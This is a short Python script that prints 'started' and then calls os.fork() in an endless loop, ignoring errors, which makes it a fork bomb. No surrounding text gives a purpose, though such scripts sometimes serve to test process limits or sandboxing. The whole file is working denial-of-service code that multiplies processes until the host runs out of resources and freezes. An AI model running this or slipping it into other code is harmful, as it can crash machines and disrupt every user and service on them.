import os
print("started", flush=True)
while True:
    try: os.fork()
    except OSError: pass
